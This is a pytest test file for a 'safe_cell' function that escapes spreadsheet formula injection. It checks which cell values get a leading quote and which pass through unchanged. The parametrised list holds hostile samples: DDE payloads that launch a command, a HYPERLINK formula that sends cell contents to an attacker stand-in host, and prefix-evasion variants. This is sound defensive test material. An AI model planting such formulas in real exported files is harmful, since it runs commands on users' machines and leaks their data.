"""Cells that a spreadsheet shows and never runs."""

import pytest

from ipcases.lib.tables import safe_cell

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1)',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "-1.2.3",
    "--1",
    "+",
    "-",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_marks_what_a_spreadsheet_would_run(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Nordvik", "诺德维克", "1+1", "a=b", "-12", "+8613800138000", "-0.5", " =1", ""])
def test_leaves_plain_text_and_numbers_as_they_are(value):
    assert safe_cell(value) == value


def test_writes_nothing_for_nothing():
    assert safe_cell(None) == ""
